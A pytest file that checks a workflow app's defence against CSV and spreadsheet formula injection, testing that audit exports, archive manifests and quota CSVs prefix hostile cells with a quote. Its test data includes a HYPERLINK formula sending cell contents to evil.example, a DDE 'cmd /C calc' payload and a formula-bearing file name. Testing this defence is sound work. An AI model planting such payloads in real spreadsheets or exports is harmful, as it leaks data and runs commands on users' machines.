"""Issue 11 item 14: CSV and spreadsheet formula injection, in every file the product writes.

A return reason `=HYPERLINK(…)` went raw into /audit/export.csv, and a file named
`=1+2+cmd.pdf` into the archive's manifest.csv. Every CSV and .xlsx writer now goes through
`workflow.spreadsheets.neutralise_cell` (OWASP: prefix a `'`).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from decimal import Decimal

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from storage.local import LocalStore
from tests.factories import World
from web.common.routine_tables import matrix_csv
from workflow import actions
from workflow.archive import write_department_archive
from workflow.demo import demo_pdf
from workflow.evidence import attach_evidence
from workflow.models import Item
from workflow.spreadsheets import neutralise_cell, safe_csv_writer, xlsx_bytes

Login = Callable[[str], FlaskClient]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("缺少材料", "缺少材料"),
        ("a=1", "a=1"),
        ("", ""),
        (Decimal("-2.50"), Decimal("-2.50")),  # a number stays a number
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_cell(raw: object, expected: object) -> None:
    assert neutralise_cell(raw) == expected


def test_csv_writer_and_xlsx_never_write_a_formula() -> None:
    buffer = io.StringIO()
    safe_csv_writer(buffer).writerow([HOSTILE, "@cmd", 5, Decimal("-1.5")])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'" + HOSTILE, "'@cmd", "5", "-1.5",
    ]  # fmt: skip
    when = dt.datetime(2026, 1, 1, 0, 0, tzinfo=dt.UTC)
    data = xlsx_bytes("测试", ["甲", "乙", "时间"], [[HOSTILE, Decimal("-2.5"), when]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    assert sheet["B2"].value == -2.5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == dt.datetime(2026, 1, 1, 8, 0)  # Asia/Shanghai


def _returned_with(session: Session, store: LocalStore, w: World, reason: str) -> Item:
    item = w.item(session, w.dep_a, "1")
    attach_evidence(
        session, store, item.id, w.member_a, io.BytesIO(demo_pdf("x")), "=1+2+cmd.pdf",
        max_size=2**20,
    )  # fmt: skip
    actions.submit_item(session, item.id, w.member_a, item.version)
    actions.return_item(session, item.id, w.reviewer, item.version, reason)
    session.commit()
    return item


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_audit_export_csv_neutralises_a_hostile_reason(
    app: Flask, session: Session, world: World, store: LocalStore, login: Login
) -> None:
    item = _returned_with(session, store, world, HOSTILE)
    response = login("auditor").get(f"/audit/export.csv?item={item.id}")
    cells = _cells(response.data.decode("utf-8-sig"))
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_archive_manifest_neutralises_a_hostile_file_name(
    session: Session, world: World, store: LocalStore
) -> None:
    _returned_with(session, store, world, "缺少盖章页")
    out = io.BytesIO()
    write_department_archive(session, store, world.dep_a, out)
    with zipfile.ZipFile(out) as archive:
        manifest = archive.read("manifest.csv").decode("utf-8-sig")
    cells = _cells(manifest)
    assert "'=1+2+cmd.pdf" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_routine_quota_csv_neutralises_a_hostile_department_name(
    session: Session, world: World
) -> None:
    world.dep_a.name = "=cmd|' /C calc'!A0"
    session.commit()
    cells = _cells(matrix_csv(session, world.assessment, "monthly_info"))
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
